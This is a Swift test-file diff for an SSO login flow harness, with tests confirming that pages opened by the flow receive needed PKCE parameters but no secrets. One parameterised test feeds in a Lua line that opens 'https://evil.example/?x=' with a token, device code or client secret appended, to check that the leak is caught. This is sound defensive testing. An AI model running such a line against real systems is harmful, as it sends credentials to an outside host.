@@ -83,4 +83,41 @@ import Testing
     #expect(lines.last?.hasSuffix(": bad <secret>") == true)
     #expect(report.output.contains(": bad <secret>\nstack traceback:\n"), "\(report.output)")
   }
+
+  @Test(arguments: [
+    "token", "sso.crypto.base64url_encode('x' .. token)", "auth.deviceCode", "reg.clientSecret",
+  ])
+  func `may not show it to a page that it opens`(value: String) throws {
+    let report = try report("sso.browser.open('https://evil.example/?x=' .. \(value)) os.exit(0)")
+    #expect(
+      report.leaks == ["process 1, pages that it opened:\n  https://evil.example/?x=<secret>"])
+  }
+
+  @Test func `shows the login's pages what they need`() throws {
+    let report = try report("os.exit(0)")
+    #expect(report.outcome == .passed)
+    #expect(report.events.contains { $0.text == "shows a page" })
+    #expect(report.leaks.isEmpty)
+  }
+
+  @Test func `shows the authorization page what it needs`() throws {
+    let report = try Playground(
+      flow: """
+        require "sso".login {
+          start_url = "https://example.awsapps.com/start", region = "us-east-1", flow = "pkce",
+          browser = true }
+        """
+    ).scenario(
+      """
+      local svc = sim.service {}
+      svc:person():opens("browser"):approves()
+      local run = sim.run("flow.lua", { service = svc, terminal = true })
+      assert.exit(run, 0)
+      assert.contains(run.pages[1], "code_challenge=")
+      assert.contains(run.pages[1], "state=")
+      assert.contains(run.pages[1], "client_id=")
+      """, .patient)
+    #expect(report.outcome == .passed, "\(report.failure?.message ?? "")")
+    #expect(report.leaks.isEmpty)
+  }
 }
